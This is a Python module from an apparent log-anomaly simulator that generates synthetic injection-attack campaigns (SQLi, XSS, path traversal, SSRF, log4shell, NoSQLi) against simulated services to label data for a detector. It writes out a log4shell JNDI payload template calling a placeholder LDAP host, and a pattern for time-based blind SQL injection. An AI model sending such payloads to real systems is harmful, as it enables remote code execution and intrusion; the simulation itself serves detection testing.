"""attack_payload: injection campaigns (SQLi, XSS, traversal, RCE, SSTI, SSRF, log4shell...).

Single: one attacker address with a tool user agent (sqlmap, Nuclei, ...) or a
spoofed browser sends 50-500 payloads in 5-20 minutes to 1-3 routes of one
service, in query parameters, JSON bodies or path segments (label keyed by
client, route = the main route). Distributed: 10-40 addresses each send a
few payloads to one route, low and slow (label keyed by route only).
"""

from __future__ import annotations

import re

import numpy as np
import orjson

from detector.simulate import payloads, vocab
from detector.simulate.anomalies.base import (
    Anomaly,
    Injector,
    PlanContext,
    body_logged,
    new_clients,
    spread,
)
from detector.simulate.catalog import RouteSpec
from detector.simulate.clients import ClientPool
from detector.simulate.tamper import (
    Statuses,
    draw_status,
    dump,
    fill_path,
    normal_body,
    normal_query,
    placeholders,
    set_param,
)
from detector.simulate.traffic import Override, Traffic

# How the service answers: behind a WAF, validating input, or leaking errors.
_STATUS: dict[str, Statuses] = {
    "blocked": {403: 0.72, 400: 0.08, 200: 0.15, 500: 0.05},
    "rejected": {400: 0.55, 200: 0.30, 500: 0.10, 404: 0.05},
    "leaky": {200: 0.50, 500: 0.30, 400: 0.20},
}
_DISTRIBUTED = ("log4shell", "sqli", "path_traversal", "ssrf", "xss", "cmdi")
_SLOW_PAYLOAD = re.compile(r"sleep|waitfor|benchmark", re.IGNORECASE)
_LOGIN_KEYS = ("email", "password", "username", "code", "refresh_token", "client_id")


class AttackPayload(Injector):
    """Adds attacker requests whose query, body or path carries a payload.

    >>> AttackPayload.kind, AttackPayload.phase
    ('attack_payload', 1)
    """

    kind = "attack_payload"
    phase = 1

    def plan(self, ctx: PlanContext, rng: np.random.Generator) -> Anomaly | None:
        mine = [a for a in ctx.anomalies if a.kind == self.kind]
        used = {c for a in mine for c in a.extra["attack_types"]}
        styles = [a.extra["style"] for a in mine]
        if not mine:
            single = True
        elif "distributed" not in styles:
            single = False
        else:
            single = bool(rng.random() < 0.6)
        if single:
            tool = list(payloads.TOOL_CATEGORIES)[int(rng.integers(len(payloads.TOOL_CATEGORIES)))]
            cats = _pick_categories(payloads.TOOL_CATEGORIES[tool], used, rng,
                                    int(rng.integers(1, 4)))
        else:
            tool = "botnet"
            cats = _pick_categories(_DISTRIBUTED, used, rng, 1 + int(rng.random() < 0.3))

        def takes_input(svc: str, r: RouteSpec) -> bool:
            body = r.body is not None and body_logged(ctx.services[svc])
            return body if "xxe" in cats else bool(r.query) or body

        pairs = [(s, j) for s, j in ctx.candidates(0.05)
                 if takes_input(s, ctx.services[s].routes[j])]
        if not pairs:
            return None
        placed = ctx.place(rng, pairs, by_deploy=False, span=(5, 20) if single else (10, 30))
        if placed is None:
            return None
        svc, j, start, end = placed
        spec = ctx.services[svc]
        r = spec.routes[j]
        others: list[str] = []
        if single:
            extra_routes = [x for x in spec.routes if x.anomaly_eligible and x is not r
                            and ctx.free(svc, (x.template,), start, end, by_deploy=False)]
            for k in rng.permutation(len(extra_routes))[: int(rng.integers(0, 3))]:
                if extra_routes[int(k)].template not in [r.template, *others]:
                    others.append(extra_routes[int(k)].template)
        profile = list(_STATUS)[int(rng.integers(len(_STATUS)))]
        a = Anomaly(self.kind, svc, j, r.template, r.method, start, end, also=tuple(others))
        a.extra = {"style": "single" if single else "distributed", "attack_types": cats,
                   "tool": tool, "answers": profile}
        if others:
            a.extra["other_routes"] = [f"{x.method} {x.template}" for x in spec.routes
                                       if x.template in others and x.anomaly_eligible]
        if single:
            a.params = {"requests": int(rng.integers(50, 501)), "clients": 1}
            a.description = (f"{tool} campaign ({', '.join(cats)}) against {r.key}"
                             + (f" and {len(others)} more route(s)" if others else ""))
        else:
            a.params = {"clients": int(rng.integers(10, 41))}
            a.description = f"distributed low-and-slow {', '.join(cats)} probing of {r.key}"
        return a

    def arrivals(self, a: Anomaly, t: Traffic) -> None:
        assert a.route is not None
        rng, pool, spec = t.rng, t.pool, t.svc.routes
        cats = list(a.extra["attack_types"])
        single = a.extra["style"] == "single"
        if single:
            ua = _tool_ua(str(a.extra["tool"]), cats, rng)
            (client,) = new_clients(pool, [ua], cloud=bool(rng.random() < 0.8))
            a.client = pool.ip[client]
            a.description += f" from {a.client}"
            n = int(a.params["requests"])
            ts = spread(rng, n, a.start, a.end)
            clients = np.full(n, client, np.int32)
            keys = [f"{x.method} {x.template}" for x in spec]
            routes = [a.route] + [keys.index(k) for k in a.extra.get("other_routes", [])]
            share = np.array([3.0] + [1.0] * (len(routes) - 1))
            route = np.asarray(routes, np.int32)[rng.choice(len(routes), n, p=share / share.sum())]
        else:
            k = int(a.params["clients"])
            uas = [_tool_ua("botnet", cats, rng) for _ in range(k)]
            bots = new_clients(pool, uas, cloud=bool(rng.random() < 0.6))
            a.extra["addresses"] = [pool.ip[b] for b in bots]  # route-keyed: for evaluators
            per = rng.integers(2, 9, k)
            clients = np.repeat(np.asarray(bots, np.int32), per)
            ts = a.start + rng.random(len(clients)) * (a.end - a.start)
            n = len(ts)
            route = np.full(n, a.route, np.int32)
            a.params["requests"] = n
        over: list[Override | None] = []
        where: list[str] = []
        logged = body_logged(t.svc)
        for i in range(n):
            cat = cats[int(rng.integers(len(cats)))]
            o, w = _request(spec[int(route[i])], cat, rng, pool, allow_path=single,
                            in_body=logged)
            over.append(o)
            where.append(w)
        status = draw_status(_STATUS[str(a.extra["answers"])], rng, n)
        for i, w in enumerate(where):
            if w == "path" and rng.random() < 0.5:
                status[i] = 404
            elif w == "body" and status[i] == 400 and rng.random() < 0.4:
                status[i] = 422
        a.extra["where"] = sorted(set(where))
        t.add(ts, route, clients, a.index, over, status)

    def effects(self, a: Anomaly, t: Traffic) -> None:
        # Time-based blind payloads hold the connection when they work.
        for i in np.flatnonzero(t.tag == a.index):
            over = t.override[i]
            if t.status[i] in (200, 500) and _SLOW_PAYLOAD.search(f"{over[1]}{over[2]}"):
                t.dur[i] += 5.0 + float(t.rng.random())


def _pick_categories(pool: tuple[str, ...], used: set[str], rng: np.random.Generator,
                     k: int) -> list[str]:
    """``k`` categories of ``pool``, unused ones first, so campaigns differ."""
    order = [pool[int(i)] for i in rng.permutation(len(pool))]
    order.sort(key=lambda c: c in used)
    return sorted(order[: max(1, min(k, len(order)))])


def _tool_ua(tool: str, cats: list[str], rng: np.random.Generator) -> str:
    if "log4shell" in cats and rng.random() < 0.35:
        return payloads.fill("${jndi:ldap://§HOST§/ua}", rng)  # the header is the payload
    if tool in payloads.ATTACK_TOOL_UAS:
        return payloads.ATTACK_TOOL_UAS[tool]
    if tool == "botnet" and rng.random() < 0.5:
        return vocab.TOOL_UAS[int(rng.integers(len(vocab.TOOL_UAS)))]
    return vocab.BROWSER_UAS[int(rng.integers(len(vocab.BROWSER_UAS)))]


def _request(r: RouteSpec, cat: str, rng: np.random.Generator, pool: ClientPool,
             allow_path: bool, in_body: bool) -> tuple[Override, str]:
    """One attack request on route ``r``: (override, where the payload sits).

    ``in_body`` is False where the log format drops bodies: the payload then
    goes where the log shows it (query or path).
    """
    payload = payloads.obfuscate(payloads.sample(cat, rng), cat, rng)
    body = normal_body(r, rng)
    holes = placeholders(r.template)
    if cat == "xxe" and body is not None and in_body:
        return (None, "", payload), "body"
    in_path = 0.5 if cat == "path_traversal" else 0.0 if cat in ("nosqli", "xxe") else 0.12
    if allow_path and holes and rng.random() < in_path:
        seg = payloads.encode_path(payload)
        path = fill_path(r.template, rng, pool, (int(rng.integers(len(holes))), seg))
        return (path, "", dump(body) if body is not None else None), "path"
    if body is not None and in_body and rng.random() < 0.55:
        keys = [k for k, v in body.items() if isinstance(v, str)] or list(body)
        login = [k for k in keys if k in _LOGIN_KEYS]
        key = (login or keys)[int(rng.integers(len(login or keys)))]
        if cat == "nosqli":
            body[key] = orjson.loads(payload)
        else:
            body[key] = payload
        return (None, "", dump(body)), "body"
    query = normal_query(r, rng) if rng.random() < 0.6 else ""
    names = [p.split("=", 1)[0] for p in query.split("&") if p]
    if names and rng.random() < 0.6:
        key = names[int(rng.integers(len(names)))]
    else:
        key = payloads.PARAMS[cat][int(rng.integers(len(payloads.PARAMS[cat])))]
    if cat == "nosqli":
        op, _, value = payloads.NOSQLI_QUERY[int(rng.integers(len(payloads.NOSQLI_QUERY)))] \
            .partition("=")
        if rng.random() < 0.5:
            op = op.replace("[", "%5B").replace("]", "%5D").replace("$", "%24")
        query = set_param(query, f"{key}{op}", value)
    else:
        query = set_param(query, key, payloads.encode(payload, rng))
    return (None, query, dump(body) if body is not None else None), "query"
